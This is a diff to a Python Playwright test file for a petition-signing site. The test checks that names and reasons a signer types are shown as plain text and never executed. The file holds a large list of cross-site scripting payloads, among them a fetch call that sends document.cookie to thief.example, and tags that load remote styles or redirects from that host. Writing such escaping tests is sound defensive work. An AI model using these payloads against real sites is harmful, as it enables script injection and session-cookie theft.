@@ -8,9 +8,10 @@ from playwright.sync_api import expect
 
 from clarion.domain.names import TextRefused, clean_name, clean_text, public_name
 from clarion.signatures.reasons import SHOWN
+from clarion.testing import link
 
 CALLS = ("alert(1)", "document.title='taken'", "fetch('https://thief.example/?'+document.cookie)")
-OPENINGS = ("", "\">", "'>", "</p></blockquote>", "</textarea></title></style></script>", "-->")
+OPENINGS = ("", '">', "'>", "</p></blockquote>", "</textarea></title></style></script>", "-->")
 BODIES = (
     "<script>{call}</script>",
     "<ScRiPt >{call}</sCrIpT\t>",
@@ -26,32 +27,32 @@ BODIES = (
     "<details open ontoggle={call}>x</details>",
     "<video><source onerror={call}></video>",
     "<iframe srcdoc='<script>{call}</script>'></iframe>",
-    "<iframe src=\"javascript:{call}\"></iframe>",
-    "<object data=\"javascript:{call}\"></object>",
-    "<embed src=\"data:text/html,<script>{call}</script>\">",
-    "<a href=\"javascript:{call}\" autofocus onfocus={call}>x</a>",
-    "<a href=\"java\tscript:{call}\">x</a>",
-    "<form action=\"javascript:{call}\"><button>x</button></form>",
-    "<button form=sign-form formaction=\"javascript:{call}\">x</button>",
-    "<base href=\"https://thief.example/\">",
-    "<link rel=stylesheet href=\"https://thief.example/x.css\">",
-    "<meta http-equiv=refresh content=\"0;url=https://thief.example/\">",
+    '<iframe src="javascript:{call}"></iframe>',
+    '<object data="javascript:{call}"></object>',
+    '<embed src="data:text/html,<script>{call}</script>">',
+    '<a href="javascript:{call}" autofocus onfocus={call}>x</a>',
+    '<a href="java\tscript:{call}">x</a>',
+    '<form action="javascript:{call}"><button>x</button></form>',
+    '<button form=sign-form formaction="javascript:{call}">x</button>',
+    '<base href="https://thief.example/">',
+    '<link rel=stylesheet href="https://thief.example/x.css">',
+    '<meta http-equiv=refresh content="0;url=https://thief.example/">',
     "<style>@import 'https://thief.example/x.css';*{{animation:x 1s}}</style>",
-    "<p style=\"background:url(https://thief.example/x.png)\">x</p>",
+    '<p style="background:url(https://thief.example/x.png)">x</p>',
     "<template><script>{call}</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror={call}>\">",
+    '<noscript><p title="</noscript><img src=x onerror={call}>">',
     "<!--><img src=x onerror={call}>-->",
     "<![CDATA[<script>{call}</script>]]>",
     "&lt;script&gt;{call}&lt;/script&gt;",
     "&#60;img src=x onerror={call}&#62;",
     "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
     "%3Cscript%3E{call}%3C/script%3E",
-    "\" onmouseover=\"{call}\" x=\"",
+    '" onmouseover="{call}" x="',
     "' autofocus onfocus='{call}' x='",
     "` onfocus=`{call}`",
     "javascript:{call}",
     "{{{{7*7}}}}{{% print({call}) %}}${{7*7}}",
-    "[x](javascript:{call}) ![x](x\"onerror=\"{call})",
+    '[x](javascript:{call}) ![x](x"onerror="{call})',
 )
 PAYLOADS = [
     OPENINGS[(number + turn) % len(OPENINGS)] + body.format(call=CALLS[turn])
@@ -81,6 +82,20 @@ def _nothing_ran(page: Any, title: str) -> None:
     assert page.title() == title
 
 
+def _sign(site: Any, number: int, name: str, reason: str) -> None:
+    fields = {"email": f"a{number}@readers.example", "postal_code": "20009", "name": name, "reason": reason}
+    assert site.instance.sign("dc-sanctuary", show_name="y", **fields).status_code == 303
+
+
+def _confirm_all(site: Any) -> None:
+    site.instance.work()
+    for mail in site.instance.mails():
+        site.instance.client.post(link(mail, "confirm"), data={"action": "confirm"})
+    site.instance.work()
+    for path in (site.instance.home / "var" / "mail").glob("*.eml"):
+        path.unlink()
+
+
 def test_there_are_plenty() -> None:
     assert len(set(PAYLOADS)) >= 120
 
@@ -92,14 +107,14 @@ def test_reasons_and_names_are_shown_as_typed(visit, site) -> None:
     visitor.open("/dc-sanctuary/en")
     title, batches, as_names = page.title(), 0, 0
     for start in range(0, len(PAYLOADS), SHOWN):
-        batch = PAYLOADS[start : start + SHOWN]
         expected = []
-        for payload in batch:
+        for number, payload in enumerate(PAYLOADS[start : start + SHOWN], start):
             name = f"A{payload}"
             name = name if _is_name(name) else "Ana Luna"
             as_names += name != "Ana Luna"
-            site.confirmed(name=name, reason=payload, show_name="y")
+            _sign(site, number, name, payload)
             expected.append((clean_text(payload), public_name(clean_name(name))))
+        _confirm_all(site)
         site.approve_reasons()
         page.reload()
         shown = page.eval_on_selector_all(
@@ -120,9 +135,9 @@ def test_what_was_refused_or_carried_over_stays_as_typed(visit) -> None:
     for start in range(0, len(PAYLOADS), len(fields)):
         typed = dict(zip(fields, PAYLOADS[start : start + len(fields)], strict=True))
         page.eval_on_selector_all("#email", "all => all.forEach((field) => { field.type = 'text' })")
-        if start % 2:
+        if start % 3:
             visitor.send_anyway(**typed)
-            assert page.title().startswith("Not signed yet")
+            expect(page.locator(".error").first).to_be_visible()
         else:
             visitor.sign(**typed)
             other = "es" if page.locator("html").get_attribute("lang") == "en" else "en"
